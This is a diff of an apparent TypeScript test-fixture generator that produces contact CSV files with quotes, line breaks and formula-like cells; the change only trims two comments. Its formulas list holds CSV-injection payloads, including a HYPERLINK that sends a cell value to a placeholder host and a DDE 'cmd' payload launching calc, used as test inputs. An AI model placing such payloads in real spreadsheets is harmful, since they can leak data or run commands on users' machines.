@@ -59,7 +59,7 @@ export function notesText(seed: number): Bytes {
   )
 }
 
-// The texts that a spreadsheet would run as formulas: =, +, -, @, tab and carriage return at the start of a cell.
+// Cells that a spreadsheet would run as formulas.
 const formulas = [
   '=HYPERLINK("https://canary.invalid/"&A1,"open")',
   '=1+1',
@@ -71,7 +71,7 @@ const formulas = [
   "=cmd|' /C calc'!A0",
 ] as const
 
-/** Comma-separated, with quotes, line breaks and cells that look like formulas. */
+/** With quotes, line breaks and cells that look like formulas. */
 export function contactsCsv(seed: number): Bytes {
   const next = chance(seed)
   const rows = Array.from({ length: between(6, 14, next) }, (_, index) => [
